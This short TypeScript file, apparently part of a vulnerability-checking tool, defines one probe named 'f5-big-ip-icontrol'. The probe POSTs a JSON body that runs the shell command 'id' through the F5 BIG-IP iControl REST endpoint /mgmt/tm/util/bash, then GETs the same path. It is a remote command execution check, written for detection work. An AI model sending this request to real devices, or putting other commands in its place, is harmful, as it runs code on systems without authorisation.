import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'f5-big-ip-icontrol',
    post('/mgmt/tm/util/bash', '{"command":"run","utilCmdArgs":"-c id"}'),
    get('/mgmt/tm/util/bash'),
  ),
]
